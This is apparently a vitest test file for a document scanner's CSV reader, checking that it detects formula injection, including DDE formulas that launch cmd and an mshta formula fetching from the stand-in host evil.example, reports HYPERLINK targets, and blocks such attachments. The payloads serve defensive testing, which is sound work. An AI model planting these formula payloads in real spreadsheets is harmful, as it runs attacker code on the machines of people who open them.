import { expect, it } from "vitest"
import { csvFormulasMax, readCsv } from "../../../../adapters/documents/csv/ReadCsv.ts"
import { Budget } from "../../../../adapters/documents/reading/Budget.ts"
import { carriers } from "../evasions/Carriers.ts"
import { rate } from "../evasions/Rate.ts"

const factsOf = (text: string) => readCsv(Buffer.from(text), new Budget()).facts

it.each([
  ["name;sum\nAnn;=cmd|'/c calc'!A0\n", "cmd|'/c calc'!A0"],
  ["\"=cmd|'/c calc'!A0\",2", "cmd|'/c calc'!A0"],
  ["1\t+mshta|'http://evil.example/a'!A1", "mshta|'http://evil.example/a'!A1"],
  ["1,@SUM(1+1)*cmd|'/c calc'!A0", "cmd|'/c calc'!A0"]
])("reports the program that %j starts", (text, command) => {
  expect(factsOf(text)).toEqual([{ kind: "dde", command, where: "document" }])
})

it("reports the link of a formula", () => {
  expect(factsOf("a,\"=HYPERLINK(\"\"https://evil.example/\"\",\"\"Pay\"\")\"")).toMatchObject([
    { kind: "link", url: "https://evil.example/", text: "Pay" }
  ])
})

it.each(["a,-12,+49 30 1234,=1+1\n", "x|y|z\n-5|3", "mail,@ann\n", ""])("reports nothing in %j", (text) => {
  expect(factsOf(text)).toEqual([])
})

it("examines a limited number of formulas", () => {
  expect(factsOf(`${"=A1\n".repeat(csvFormulasMax)}=cmd|' '!A0`)).toEqual([
    { kind: "cut off", limit: "formulas", where: "document" }
  ])
})

it("rates an attached table by its formulas", () => {
  // The other carriers keep no name.
  for (const [what, carry] of carriers.slice(0, 2)) {
    expect(rate(carry(Buffer.from("sum\n=cmd|'/c calc'!A0\n"), "table.csv"))[0], what).toBe("block")
    expect(rate(carry(Buffer.from("sum\n=1+1\n"), "table.csv"))[0], what).toBe("ok")
  }
})
